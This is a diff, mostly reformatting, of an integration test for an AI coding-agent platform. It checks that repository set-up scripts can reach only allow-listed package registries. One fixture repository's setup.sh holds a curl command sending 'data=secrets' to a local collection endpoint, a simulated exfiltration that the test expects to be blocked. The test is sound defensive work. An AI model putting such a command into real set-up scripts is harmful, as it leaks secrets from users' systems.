@@ -22,13 +22,18 @@ const FINAL_OUTCOMES = new Set(['pr_opened', 'pr_updated', 'draft_pr_opened', 'n
 /** A repository whose tests need an installed dependency: `total()` starts its sum at 1. */
 function appFiles(registry: NpmRegistry, lockfile: string, setup: string): Record<string, string> {
   return {
-    'package.json': JSON.stringify({ name: 'app', version: '1.0.0', private: true, scripts: { test: 'node test.js' }, dependencies: { 'tiny-sum': '1.0.0' } }, null, 2),
+    'package.json': JSON.stringify(
+      { name: 'app', version: '1.0.0', private: true, scripts: { test: 'node test.js' }, dependencies: { 'tiny-sum': '1.0.0' } },
+      null,
+      2,
+    ),
     'package-lock.json': lockfile,
     '.npmrc': registry.npmrc(),
     '.gitignore': 'node_modules/\n',
     '.stratus/setup.sh': setup,
     'total.js': "const sum = require('tiny-sum');\nmodule.exports = (xs) => xs.reduce((a, b) => sum(a, b), 1);\n",
-    'test.js': "const total = require('./total.js');\nif (total([2, 3]) !== 5) { console.error('FAIL: total([2, 3]) =', total([2, 3])); process.exit(1); }\nconsole.log('tests pass');\n",
+    'test.js':
+      "const total = require('./total.js');\nif (total([2, 3]) !== 5) { console.error('FAIL: total([2, 3]) =', total([2, 3])); process.exit(1); }\nconsole.log('tests pass');\n",
   };
 }
 
@@ -58,7 +63,10 @@ describe('set-up steps in a GitHub run (.stratus/setup.sh → npm ci through the
     registry = await startNpmRegistry(npmDir.dir);
     // Two real packages, one depending on the other: npm ci resolves both from the lockfile.
     await registry.publish({ name: 'tiny-add', version: '1.0.0', main: 'index.js' }, { 'index.js': 'module.exports = (a, b) => a + b;\n' });
-    await registry.publish({ name: 'tiny-sum', version: '1.0.0', main: 'index.js', dependencies: { 'tiny-add': '1.0.0' } }, { 'index.js': "module.exports = require('tiny-add');\n" });
+    await registry.publish(
+      { name: 'tiny-sum', version: '1.0.0', main: 'index.js', dependencies: { 'tiny-add': '1.0.0' } },
+      { 'index.js': "module.exports = require('tiny-add');\n" },
+    );
     const lockfile = await lockfileFor(registry, npmDir.dir);
     offList = await startCountingServer();
     const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
@@ -71,13 +79,26 @@ describe('set-up steps in a GitHub run (.stratus/setup.sh → npm ci through the
       // The operator lets sandboxes reach the loopback registry (STRATUS_PRIVATE_NETWORK_ALLOW) and
       // makes it the one set-up registry (STRATUS_SETUP_REGISTRIES), as the public ones are by default.
       settings: { model: {}, turn: {}, api: {}, observability: {}, outbound: { privateNetworkAllow: [registry.host] }, setup: { registries: [registry.host] } },
-      github: { webhookSecret: SECRET, appId: APP_ID, privateKey: privateKey.export({ type: 'pkcs1', format: 'pem' }).toString(), apiUrl: gh.url, commitAuthor: { name: 'Stratus Test', email: 'stratus@example.com' } },
+      github: {
+        webhookSecret: SECRET,
+        appId: APP_ID,
+        privateKey: privateKey.export({ type: 'pkcs1', format: 'pem' }).toString(),
+        apiUrl: gh.url,
+        commitAuthor: { name: 'Stratus Test', email: 'stratus@example.com' },
+      },
     });
     api = apiClient(stack.apiUrl, stack.token);
     app = makeBareRepo(gitRoot.dir, 'acme/app', appFiles(registry, lockfile, 'set -e\nnpm ci\n'));
-    makeBareRepo(gitRoot.dir, 'acme/leaky', appFiles(registry, lockfile, `set -e\nnpm ci\ncurl -sS --fail-with-body http://localhost:${offList.port}/collect?data=secrets\n`));
+    makeBareRepo(
+      gitRoot.dir,
+      'acme/leaky',
+      appFiles(registry, lockfile, `set -e\nnpm ci\ncurl -sS --fail-with-body http://localhost:${offList.port}/collect?data=secrets\n`),
+    );
     gh.addInstallation(88, 'acme');
-    for (const [id, full] of [[2_001, 'acme/app'], [2_002, 'acme/leaky']] as const) {
+    for (const [id, full] of [
+      [2_001, 'acme/app'],
+      [2_002, 'acme/leaky'],
+    ] as const) {
       gh.addRepository({ id, fullName: full, installationId: 88 });
       gh.addIssue(full, 1, { title: 'total() is off by one', body: 'total([2, 3]) gives 6.', user: { login: 'reporter', type: 'User' } });
       repos[full] = { id, fullName: full, cloneUrl: `${git.url}/${full}.git`, installationId: 88 };
@@ -118,11 +139,19 @@ describe('set-up steps in a GitHub run (.stratus/setup.sh → npm ci through the
     const tarballsBefore = registry.requests.filter((r) => r.includes('.tgz')).length;
     stack.model!.enqueue(
       // The agent's own commands reach no registry: the session allows no host.
-      { content: [bash('t1', `npm test; echo "exit=$?"; curl -sS -m 5 ${registry.url}/tiny-sum >/dev/null && echo REACHED || echo NO-NETWORK`)], stopReason: 'tool_use' },
+      {
+        content: [bash('t1', `npm test; echo "exit=$?"; curl -sS -m 5 ${registry.url}/tiny-sum >/dev/null && echo REACHED || echo NO-NETWORK`)],
+        stopReason: 'tool_use',
+      },
       { content: [bash('t2', "sed -i 's/, 1);/, 0);/' total.js && npm test")], stopReason: 'tool_use' },
       text('total() started its sum at 1; it starts at 0 now and `npm test` passes.'),
     );
-    const sent = await sendDelivery(stack.apiUrl, SECRET, 'issues', labeledPayload(repos['acme/app']!, { number: 1, title: 'total() is off by one' }, 'stratus', { login: 'maintainer' }));
+    const sent = await sendDelivery(
+      stack.apiUrl,
+      SECRET,
+      'issues',
+      labeledPayload(repos['acme/app']!, { number: 1, title: 'total() is off by one' }, 'stratus', { login: 'maintainer' }),
+    );
     const run = await runFor(sent.deliveryId);
     expect(run).toMatchObject({ outcome: 'pr_opened', repository: 'acme/app' });
 
@@ -158,7 +187,12 @@ describe('set-up steps in a GitHub run (.stratus/setup.sh → npm ci through the
 
   it('a set-up step reaching a host off the list is refused; the failure reaches the model and the issue', async () => {
     stack.model!.enqueue(text('The set-up failed, so I changed nothing.'));
-    const sent = await sendDelivery(stack.apiUrl, SECRET, 'issues', labeledPayload(repos['acme/leaky']!, { number: 1, title: 'total() is off by one' }, 'stratus', { login: 'maintainer' }));
+    const sent = await sendDelivery(
+      stack.apiUrl,
+      SECRET,
+      'issues',
+      labeledPayload(repos['acme/leaky']!, { number: 1, title: 'total() is off by one' }, 'stratus', { login: 'maintainer' }),
+    );
     const run = await runFor(sent.deliveryId);
     expect(run.outcome).toBe('no_changes');
 
